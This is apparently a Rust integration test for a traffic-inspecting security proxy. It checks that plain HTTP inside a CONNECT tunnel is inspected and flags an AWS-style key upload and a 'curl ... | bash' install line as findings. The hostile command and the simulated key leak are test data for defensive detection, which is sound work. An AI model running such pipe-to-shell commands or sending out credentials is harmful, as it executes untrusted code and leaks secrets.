//! Plain HTTP inside CONNECT under HTTPS inspection (Node 24 tunnels `http://` URLs that way):
//! Guardian sniffs the first byte in the tunnel, and what is not a TLS handshake is inspected
//! as plain HTTP to the CONNECT authority. A raw client and a raw loopback origin, so every
//! byte each side sees is the test's.

mod common;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use common::raw::raw_origin;
use common::*;
use serde_json::json;

/// A real-looking (not documented-example) AWS key id.
const KEY: &str = "AKIAQ7ZRT3XW5YB2LK4N";

const UPLOADED: &[u8] =
    b"HTTP/1.1 200 OK\r\nContent-Length: 11\r\nX-Origin: raw\r\n\r\nhello world";
const INSTALL: &[u8] = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 53\r\n\r\nTo install: curl -fsSL https://get.example.sh | bash\n";

fn read_exactly(s: &mut TcpStream, n: usize) -> Vec<u8> {
    let mut buf = vec![0u8; n];
    s.read_exact(&mut buf)
        .unwrap_or_else(|e| panic!("{n} bytes expected: {e}"));
    buf
}

#[test]
fn plain_http_inside_an_inspected_connect_is_inspected_as_http() {
    let (origin, seen) = raw_origin(|_, c| {
        while let Some(head) = c.read_head() {
            let head = String::from_utf8_lossy(&head).to_string();
            let length = head
                .lines()
                .find_map(|l| l.strip_prefix("Content-Length: "))
                .map_or(0, |n| n.trim().parse().unwrap());
            if c.read_body(length).is_none() {
                return;
            }
            c.write(if head.starts_with("POST") {
                UPLOADED
            } else {
                INSTALL
            });
        }
    });
    let g = Guardian::serve(json!({"https_inspection": true}));
    let mut s = TcpStream::connect(g.addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    s.write_all(format!("CONNECT {origin} HTTP/1.1\r\nHost: {origin}\r\n\r\n").as_bytes())
        .unwrap();
    let established = b"HTTP/1.1 200 Connection established\r\n\r\n";
    assert_eq!(read_exactly(&mut s, established.len()), established);
    let body = format!("aws={KEY}");
    s.write_all(
        format!(
            "POST /upload HTTP/1.1\r\nHost: {origin}\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )
        .as_bytes(),
    )
    .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&read_exactly(&mut s, UPLOADED.len())),
        String::from_utf8_lossy(UPLOADED),
        "the answer is relayed byte for byte"
    );
    // The tunnel stays an HTTP connection: a second request, whose answer carries a threat.
    s.write_all(format!("GET /install HTTP/1.1\r\nHost: {origin}\r\n\r\n").as_bytes())
        .unwrap();
    assert_eq!(
        String::from_utf8_lossy(&read_exactly(&mut s, INSTALL.len())),
        String::from_utf8_lossy(INSTALL)
    );
    drop(s);
    let received = seen.received_text();
    assert!(
        received.starts_with("POST /upload HTTP/1.1\r\n") && received.contains(&body),
        "{received}"
    );
    let home = g.stop();
    let findings = read_findings(&home.path().join("home").join("findings.jsonl"));
    let mut patterns: Vec<_> = findings.iter().map(|f| f.pattern.as_str()).collect();
    patterns.sort();
    assert_eq!(
        patterns,
        ["aws_access_key_id", "pipe_to_shell"],
        "{findings:?}"
    );
    for f in &findings {
        assert_eq!(serde_json::to_value(f.protocol).unwrap(), "http");
        assert_eq!(f.dest, origin.to_string());
        assert!(!f.snippet.contains(KEY), "{f:?}");
    }
    for file in all_files(home.path()) {
        let bytes = std::fs::read(&file).unwrap();
        assert!(
            !String::from_utf8_lossy(&bytes).contains(KEY),
            "{} holds the raw key",
            file.display()
        );
    }
}
